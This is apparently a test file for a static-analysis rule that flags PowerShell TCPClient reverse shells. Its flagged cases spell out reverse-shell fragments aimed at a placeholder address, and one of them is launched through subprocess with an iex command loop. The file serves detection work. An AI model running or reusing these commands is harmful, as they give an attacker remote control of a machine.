import subprocess

# ruleid: powershell-tcpclient
PS = "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.8',443);$s = $c.GetStream();"

# ruleid: powershell-tcpclient
subprocess.Popen(["powershell", "-c", "$t=New-Object Net.Sockets.TCPClient('203.0.113.8',443);while(1){$d=(iex $cmd 2>&1)}"])

# ok: powershell-tcpclient
DOC = "TCPClient is a .NET class"

# ok: powershell-tcpclient
subprocess.run(["powershell", "-NoProfile", "-Command", "Get-Date"])
